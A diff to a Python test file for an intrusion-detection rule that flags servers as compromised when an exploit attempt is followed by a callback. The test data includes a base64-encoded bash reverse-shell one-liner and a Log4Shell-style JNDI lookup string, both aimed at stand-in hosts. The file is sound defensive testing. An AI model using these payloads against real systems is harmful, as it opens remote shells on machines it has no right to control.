@@ -140,6 +140,10 @@ def call(event, to, port, seconds, **more):
     return event("flow", seconds, source__ip="10.0.0.80", destination__ip=to, destination__port=port, **more)
 
 
+def compromises(found):
+    return [hit for hit in found if hit.threat == "compromised"]
+
+
 B64 = base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.5/9001 0>&1").decode()
 
 
@@ -155,7 +159,7 @@ B64 = base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.5/9001 0>&1").decode()
     ],
 )
 def test_a_server_that_does_as_told_is_compromised(text, to, port, event, hits):
-    (hit,) = hits(call(event, to, port, 3), attack(event, text))
+    (hit,) = compromises(hits(call(event, to, port, 3), attack(event, text)))
     assert (hit.rule, hit.threat, hit.subject) == (
         "taishi.sequence.exploit-callback",
         "compromised",
@@ -172,7 +176,7 @@ def test_a_lookup_of_the_name_is_proof(event, hits):
         destination__ip="10.0.0.53",
         dns__question__name="x1.callback.example",
     )
-    (hit,) = hits(attack(event, "${jndi:dns://x1.callback.example/a}"), asked)
+    (hit,) = compromises(hits(attack(event, "${jndi:dns://x1.callback.example/a}"), asked))
     assert hit.subject == "10.0.0.80"
 
 
@@ -187,8 +191,8 @@ def test_a_lookup_of_the_name_is_proof(event, hits):
         ("see http://198.51.100.5:1389/a", "198.51.100.5", 1389, 3),
     ],
 )
-def test_a_server_that_does_not_is_left_to_the_rules_on_attempts(text, to, port, seconds, event, hits):
-    assert hits(attack(event, text), call(event, to, port, seconds)) == []
+def test_a_server_that_does_not_is_only_attacked(text, to, port, seconds, event, hits):
+    assert compromises(hits(attack(event, text), call(event, to, port, seconds))) == []
 
 
 @pytest.mark.parametrize(
